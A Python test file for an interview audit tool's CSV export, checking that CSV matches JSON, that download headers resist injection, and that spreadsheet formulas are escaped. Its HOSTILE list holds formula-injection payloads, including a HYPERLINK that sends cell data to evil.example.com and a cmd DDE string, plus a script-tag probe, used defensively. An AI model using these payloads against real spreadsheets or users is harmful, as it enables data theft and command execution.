"""The audit views as CSV: what the JSON says, hostile text whole, and no cell a formula."""

import json
import re
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from data_storage import DataStorage
from interviewer.audit.csv_text import csv_lines, escaped, unescaped
from interviewer.audit.rows import RESPONSE_COLUMNS, SUMMARY_COLUMNS
from tests.audit_setup import STATES, Audited, answer, get, read_csv, responses, start, summary

SIGNS = "=+-@＝＋－＠"
HOSTILE = (
    '=HYPERLINK("http://evil.example.com?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    " \t\r\n=1+1 and more",
    "＝1+1 in full width",
    "'=1+1",
    'Line one, "quoted";\r\nline two\nline three\rend \U0001f600 \u0000 é 日本',
    "<script>alert(1)</script>",
)


def as_cell(value: Any) -> str:
    """What the CSV says for a value of the JSON form."""
    if isinstance(value, str):
        return escaped(value)
    if isinstance(value, list | dict):
        return json.dumps(value, ensure_ascii=False)
    return "" if value is None else str(value)


def test_the_summary_as_csv_says_what_the_json_says(audited: Audited) -> None:
    header, rows = read_csv(get(audited.client, "/api/data/summary", format="csv"))
    found = summary(audited.client, format="json")
    assert header == SUMMARY_COLUMNS
    assert rows == [[as_cell(value) for value in row.values()] for row in found]
    assert {dict(zip(header, row, strict=True))["session_id"] for row in rows} == set(audited.ids.values())
    (cells,) = [dict(zip(header, row, strict=True)) for row in rows if row[0] == audited.ids["automatic"]]
    assert json.loads(cells["final_results"]) == audited.row("automatic")["final_results"]
    assert json.loads(cells["topics"]) == audited.row("automatic")["topics"]
    assert json.loads(cells["individual_scores"]) == audited.row("automatic")["individual_scores"]
    assert cells["user_id"] == ""


@pytest.mark.parametrize("state", STATES)
def test_the_responses_as_csv_say_what_the_json_says(audited: Audited, state: str) -> None:
    session_id = audited.ids[state]
    header, rows = read_csv(get(audited.client, f"/api/data/interview/{session_id}/responses", format="csv"))
    assert header == RESPONSE_COLUMNS
    assert rows == [[as_cell(value) for value in row.values()] for row in responses(audited.client, session_id)]


def test_the_csv_is_a_download_with_a_name_and_the_json_is_not(audited: Audited) -> None:
    session_id = audited.ids["automatic"]
    for path, name in (
        ("/api/data/summary", "interview_summary.csv"),
        (f"/api/data/interview/{session_id}/responses", f"question_responses-{session_id}.csv"),
    ):
        response = audited.client.get(f"{path}?format=csv")
        assert response.content_type == "text/csv; charset=utf-8; header=present"
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response.headers["Cache-Control"] == "no-store"
        plain = audited.client.get(path)
        assert plain.content_type == "application/json"
        assert "Content-Disposition" not in plain.headers


def test_an_id_that_a_script_made_up_makes_no_harmful_file_name(client: FlaskClient, data_dir: Path) -> None:
    DataStorage(data_dir).save_interview_session({"session_id": 'a"; é\r\nX: y'})
    response = client.get("/api/data/interview/a%22;%20%C3%A9%0D%0AX:%20y/responses?format=csv")
    assert re.fullmatch(
        r'attachment; filename="question_responses-[\w-]+\.csv"', response.headers["Content-Disposition"]
    )
    assert "X" not in response.headers


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_survives_and_no_cell_of_it_is_a_formula(client: FlaskClient, text: str) -> None:
    session_id = start(client, total_questions=1, candidate_name=text)
    answer(client, session_id, text, code_submission=text)
    header, (row,) = read_csv(get(client, f"/api/data/interview/{session_id}/responses", format="csv"))
    cells = dict(zip(header, row, strict=True))
    for name in ("user_response", "code_submission"):
        assert cells[name].strip()[0] not in SIGNS
        assert unescaped(cells[name]) == text
    (found,) = responses(client, session_id)
    assert (found["user_response"], found["code_submission"]) == (text, text)  # JSON needs no escape
    for line in read_csv(get(client, "/api/data/summary", format="csv"))[1]:
        assert not any(cell.strip().startswith(tuple(SIGNS)) for cell in line)


def test_numbers_stay_numbers(audited: Audited) -> None:
    header, rows = read_csv(get(audited.client, "/api/data/summary", format="csv"))
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        for name in ("total_questions", "completed_questions", "current_question_index", "duration"):
            assert cells[name].isdecimal()
        assert cells["average_score"].isdecimal() or cells["average_score"] == ""


@given(st.lists(st.tuples(st.text(), st.text(), st.integers(0, 10**6) | st.none()), max_size=5))
def test_any_text_survives_the_csv_and_no_cell_begins_as_a_formula(
    given_rows: list[tuple[str, str, int | None]],
) -> None:
    columns = ("one", "two", "number")
    text = "".join(csv_lines(columns, [dict(zip(columns, row, strict=True)) for row in given_rows]))
    header, rows = read_csv(text.encode().decode("utf-8"))
    assert header == columns
    back = [(unescaped(one), unescaped(two), int(number) if number else None) for one, two, number in rows]
    assert back == given_rows
    for row in rows:
        assert not any(cell.strip("\0\ufeff\u200b \t\r\n\xa0").startswith(tuple(SIGNS)) for cell in row)


@given(st.text(alphabet=" \t\r\n\0\ufeff\u200b'=+-@＝a1"))
def test_escaping_can_be_undone_and_is_done_only_where_it_is_needed(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert escaped(text) in (text, f"'{text}")
    if not any(sign in text for sign in SIGNS):
        assert escaped(text) == text
